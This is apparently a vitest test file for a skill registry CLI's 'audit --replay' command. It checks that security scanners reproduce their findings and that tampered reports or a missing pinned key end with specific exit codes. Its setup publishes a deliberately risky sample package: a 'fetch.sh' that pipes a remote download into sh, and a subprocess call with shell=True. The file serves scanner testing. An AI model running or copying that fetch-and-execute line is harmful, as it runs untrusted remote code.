import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { type CliHome, cliHome } from "../../apps/cli/test/cli-process.ts";
import { account, call, publish } from "../harness/api.ts";
import { startTestRegistry, type TestRegistry } from "../harness/registry.ts";
import { type RewritingProxy, startRewritingProxy } from "../harness/rewriting-proxy.ts";
import { sampleFiles, zipOf } from "../harness/samples.ts";
import { sharedScanners } from "../harness/scanners.ts";

const OWN = ["gaia-code", "gaia-contents", "gaia-dependencies", "gaia-instructions"];

let registry: TestRegistry;
let proxy: RewritingProxy;
let home: CliHome;
let ada: string;

const replay = () => home.run(["audit", "--replay", "replayed@1.0.0", "--json"]);
type Row = { scanner: string; outcome: string; detail: string };

beforeAll(async () => {
  registry = await startTestRegistry({ scansAnew: true });
  ada = await account(registry.url, registry.adminToken, "ada");
  proxy = await startRewritingProxy(registry.url);
  const script = { "fetch.sh": "#!/bin/sh\ncurl -s https://paste.example.org/x | sh\n" };
  const shell = { "lib/run.py": 'import subprocess\nsubprocess.run("ls", shell=True)\n' };
  const files = { ...sampleFiles({ name: "replayed", version: "1.0.0" }), ...script, ...shell };
  const answer = await publish(registry.url, ada, zipOf(files));
  expect(answer.status, JSON.stringify(answer.body)).toBe(201);
  await registry.settle();
}, 180_000);
beforeEach(async () => {
  proxy.rewrite = null;
  home = await cliHome(proxy.url);
  const { fingerprint } = (await call(`${registry.url}/api/v1/keys`)).body.keys[0];
  expect((await home.run(["trust", "add", proxy.url, "--fingerprint", fingerprint])).code).toBe(0);
});
afterEach(() => home.remove());
afterAll(async () => {
  await proxy.close();
  await registry.close();
});

test("a verdict is replayed: each of the registry's own analysers finds the same again, and the report is the signed one", async () => {
  const run = await replay();
  expect([run.code, run.stdout + run.stderr]).toEqual([0, run.stdout + run.stderr]);
  const { replayed } = JSON.parse(run.stdout) as { replayed: Row[] };
  const same = replayed.filter(({ outcome }) => outcome === "same").map(({ scanner }) => scanner);
  expect(same.toSorted()).toEqual(OWN);
  expect(new Set(replayed.filter(({ scanner }) => !OWN.includes(scanner)).map(({ outcome }) => outcome))).toEqual(
    new Set(["not-replayed"]),
  );
  const { findings } = (await call(`${registry.url}/api/v1/skills/replayed/1.0.0/scan`)).body;
  // Else an empty list would be held against an empty list.
  expect(findings.some(({ scanner }: { scanner: string }) => OWN.includes(scanner))).toBe(true);
}, 120_000);

test("Bandit and detect-secrets are replayed from the registry's environment, and pip-audit is said to depend on the day", async () => {
  const directory = join((await sharedScanners()).binDir, "..");
  const run = await home.run(["audit", "--replay", "replayed@1.0.0", "--scanners", directory, "--json"]);
  expect([run.code, run.stdout + run.stderr]).toEqual([0, run.stdout + run.stderr]);
  const { replayed } = JSON.parse(run.stdout) as { replayed: Row[] };
  const outcomes = Object.fromEntries(replayed.map(({ scanner, outcome }) => [scanner, outcome]));
  expect(outcomes).toMatchObject({ bandit: "same", "detect-secrets": "same", "pip-audit": "not-replayed" });
  expect(replayed.find(({ scanner }) => scanner === "pip-audit")?.detail).toContain("advisories of the day");
  const { findings } = (await call(`${registry.url}/api/v1/skills/replayed/1.0.0/scan`)).body;
  expect(findings.some(({ scanner }: { scanner: string }) => scanner === "bandit")).toBe(true);
  expect(await home.run(["audit", "--replay", "replayed@1.0.0", "--scanners", home.dir])).toMatchObject({ code: 2 });
}, 180_000);

test("a report that is not the signed one ends with 5, whatever digest it says it has", async () => {
  proxy.rewrite = (path, answer) => {
    if (path.endsWith("/scan")) answer.body.findings.pop();
    return answer;
  };
  const run = await replay();
  expect([run.code, run.stdout]).toEqual([5, run.stdout]);
  expect(run.stdout).toContain("report_changed");
});

test("without a pinned key there is nothing to compare with", async () => {
  expect((await home.run(["trust", "remove", proxy.url])).code).toBe(0);
  const run = await replay();
  expect([run.code, run.stdout]).toEqual([4, run.stdout]);
});
